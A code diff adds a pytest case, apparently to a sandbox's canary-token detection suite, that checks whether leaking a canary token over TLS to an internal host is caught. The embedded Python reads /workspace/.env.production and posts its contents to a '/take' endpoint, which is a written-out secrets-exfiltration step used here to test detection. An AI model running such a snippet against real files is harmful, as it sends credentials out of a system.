@@ -134,3 +134,19 @@ def test_token_is_anew_in_every_sandbox_and_harmless_unless_sent(net_jar: OpenJa
     assert len(tokens) == 2
     assert all(len(token) >= 32 for token in tokens)
     assert [request.path for request in site.requests] == ["/harmless"] * 2
+
+
+@pytest.mark.parametrize("opened", [True, False], ids=["token", "control"])
+def test_token_to_a_service_of_this_host_in_tls(net_jar: OpenJar, secure: Web, site: Site, opened: bool) -> None:
+    """Is found as anywhere else, although nobody has signed the name by which the jar knows this host."""
+    jar = net_jar(network(host_ports=[secure.port], canary_files=["/workspace/.env.production"]))
+    sent = "token" if opened else "token[::2]"
+    code = f"""
+import urllib.request
+token = open("/workspace/.env.production").read().strip()
+url = "https://host.belljar.internal:{secure.port}/take"
+print(urllib.request.urlopen(url, {sent}.encode()).read().decode())
+"""
+    result = run_python(jar, code)
+    assert ("canary" in codes(result)) is opened, summary(result)
+    assert [len(request.body) for request in site.requests if request.body] == ([] if opened else [20])
